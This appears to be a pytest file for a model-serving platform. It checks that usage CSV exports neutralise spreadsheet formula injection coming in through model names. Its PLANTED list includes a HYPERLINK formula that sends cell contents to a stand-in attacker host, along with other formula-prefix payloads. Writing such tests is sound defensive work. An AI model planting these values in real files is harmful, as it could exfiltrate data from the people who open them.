"""A key cannot plant spreadsheet formulas in the usage CSV that admins open."""

from __future__ import annotations

import csv
import io
from datetime import date

from sqlalchemy import select

from modelyard.store import Database, UsageEvent
from modelyard.usage import Report, report_csv
from tests.conftest import Platform

PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1+1)", "-2+3", "\tx", "\rx"]
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_text_cells_that_could_start_a_formula_are_neutralised() -> None:
    rows = [
        {"model": name, "requests": 1, "prompt_tokens": 2, "completion_tokens": 3, "cost": 0.5}
        for name in [*PLANTED, "gemma-3-270m"]
    ]
    report = Report(date(2024, 3, 1), date(2024, 3, 1), ("model",), rows)
    cells = _cells(report_csv(report))
    assert not [cell for cell in cells if cell.startswith(_FORMULA_START)], cells
    # Neutralised, not dropped: the text is still there behind the quote.
    assert f"'{PLANTED[1]}" in cells and "gemma-3-270m" in cells and "0.5" in cells


def test_unknown_model_names_are_not_stored_as_given(platform: Platform) -> None:
    for name in PLANTED[:3]:
        body = {"model": name, "messages": [{"role": "user", "content": "hi"}]}
        response = platform.client.post("/v1/chat/completions", json=body, headers=platform.headers())
        assert response.status_code == 404, response.text
    platform.flush_usage()
    db = Database(platform.settings.resolved_database_url)
    with db.session() as session:
        stored = set(session.scalars(select(UsageEvent.model)))
    db.dispose()
    assert stored and not stored & set(PLANTED), stored
    for who in (platform.tenant_key, platform.admin_key):
        query = "?group_by=model&format=csv" + ("&tenant=acme" if who == platform.admin_key else "")
        exported = platform.client.get(f"/v1/usage{query}", headers=platform.headers(who))
        assert exported.status_code == 200, exported.text
        cells = _cells(exported.text)
        assert not [c for c in cells if c.startswith(_FORMULA_START)], cells
        assert not [c for c in cells if any(p in c for p in PLANTED[:3])], cells
